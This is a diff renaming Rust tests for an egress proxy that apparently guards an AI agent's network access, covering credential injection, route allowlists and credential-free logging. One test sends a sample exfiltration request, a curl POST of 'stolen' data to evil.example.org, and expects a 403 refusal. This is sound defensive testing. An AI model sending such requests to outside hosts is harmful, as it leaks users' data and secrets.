@@ -9,7 +9,7 @@ use super::fixture::{AUTH, ProxyFixture, REAL, SITE, Wanted};
 const URL: &str = "https://api.example.com/v1/models?limit=2";
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_real_credential_is_added_outside_and_the_agents_own_removed() {
+async fn injects_the_real_credential_and_strips_the_agents() {
     let proxy = ProxyFixture::open().await;
     for version in ["--http1.1", "--http2"] {
         let headers = ["-H", "Authorization: Bearer placeholder", "-H", "Cookie: a=b", "-H", "X-Kept: 1"];
@@ -23,7 +23,7 @@ async fn the_real_credential_is_added_outside_and_the_agents_own_removed() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn both_ways_in_come_to_the_same_decision() {
+async fn explicit_and_transparent_proxy_decide_alike() {
     let proxy = ProxyFixture::open().await;
     assert_eq!(proxy.curl_transparent(&[URL]).await.status(), 200);
     let refused = proxy.curl_transparent(&["http://api.example.com/"]).await;
@@ -33,7 +33,7 @@ async fn both_ways_in_come_to_the_same_decision() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_refusal_is_read_inside_the_tunnel_and_told_to_the_keeper_under_one_id() {
+async fn a_denial_has_the_same_id_in_the_response_and_for_the_keeper() {
     let proxy = ProxyFixture::open().await;
     let answer = proxy.curl(&["-X", "POST", "-d", "stolen", "https://evil.example.org/drop?x=1"]).await;
     assert_eq!(answer.status(), 403);
@@ -49,7 +49,7 @@ async fn a_refusal_is_read_inside_the_tunnel_and_told_to_the_keeper_under_one_id
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn names_that_disagree_are_refused() {
+async fn denies_requests_whose_host_names_disagree() {
     let proxy = ProxyFixture::open().await;
     let answer = proxy.curl(&["-H", "Host: other.example.com", URL]).await;
     assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("authority-mismatch"));
@@ -60,7 +60,7 @@ async fn names_that_disagree_are_refused() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn what_is_decided_on_is_what_is_forwarded() {
+async fn forwards_the_path_that_was_decided_on() {
     let matches = "matches: [{paths: [{type: prefix, value: /v1}], methods: [GET]}]";
     let proxy = ProxyFixture::with(Wanted { route: matches, ..Wanted::default() }).await;
     let get = |path: &str| vec!["--path-as-is".to_owned(), format!("https://{SITE}{path}")];
@@ -82,7 +82,7 @@ async fn what_is_decided_on_is_what_is_forwarded() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn connection_takes_away_neither_what_was_decided_on_nor_what_was_added() {
+async fn connection_header_removes_no_decided_or_injected_header() {
     let matches = "matches: [{headers: [{name: x-env, value: dev}]}]";
     let proxy = ProxyFixture::with(Wanted { route: matches, ..Wanted::default() }).await;
     let answer = proxy.curl(&["--http1.1", "-H", "X-Env: dev", "-H", "Connection: x-env", URL]).await;
@@ -95,7 +95,7 @@ async fn connection_takes_away_neither_what_was_decided_on_nor_what_was_added() 
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn plain_http_passes_on_port_80_where_a_route_asks_for_it() {
+async fn forwards_plain_http_on_port_80_if_the_route_allows_it() {
     let site = Site { tls: false, ..Site::named(&[SITE]) };
     let proxy = ProxyFixture::with(Wanted { site, route: "ports: [80]", ..Wanted::default() }).await;
     for answer in [
@@ -109,7 +109,7 @@ async fn plain_http_passes_on_port_80_where_a_route_asks_for_it() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_proxy_tells_its_routes() {
+async fn lists_its_routes() {
     let proxy = ProxyFixture::open().await;
     let answer = proxy.curl(&["http://_egress.local/allowlist"]).await;
     assert_eq!(answer.status(), 200);
@@ -121,7 +121,7 @@ async fn the_proxy_tells_its_routes() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_log_shows_everything_but_the_credential() {
+async fn full_log_omits_the_credential() {
     let route =
         "auth: {scheme: Bearer, slot: key}\n  dlp: {outbound_detectors: false, inbound_detectors: false}";
     let proxy = ProxyFixture::with(Wanted { route, log: LogLevel::Full, ..Wanted::default() }).await;
@@ -147,7 +147,7 @@ async fn the_log_shows_everything_but_the_credential() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_repository_of_the_gate_is_not_written_through_its_forges_api() {
+async fn denies_forge_api_writes_to_a_gated_repository() {
     let route = "matches: [{methods: [GET, POST, PUT]}, {methods: [PUT], paths: [{type: prefix, value: \
                  /repos/o/docs/contents}]}]";
     let more_routes = "forges: [example.com]\n";
